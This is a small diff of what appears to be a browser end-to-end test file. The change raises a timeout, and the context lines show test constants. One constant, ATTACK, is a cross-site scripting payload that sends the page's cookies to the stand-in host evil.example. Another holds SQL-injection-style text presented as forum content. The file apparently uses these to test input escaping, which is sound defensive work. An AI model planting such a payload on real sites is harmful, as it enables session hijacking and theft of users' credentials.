@@ -13,7 +13,7 @@ import { RunningRampart } from '../support/running-rampart.ts';
 import { NARROW, overflowsSideways, startBrowser, watchPage, WIDE } from './browser.ts';
 
 const PASSWORD = 'a quiet harbour at dawn';
-const WAIT_MS = 20_000;
+const WAIT_MS = 60_000;
 /** What someone writes in a forum about databases. */
 const QUESTION = "Why does x' UNION SELECT name, price FROM products -- return both lists?";
 const ATTACK = '<script>fetch("//evil.example/?c=" + document.cookie)</script>';
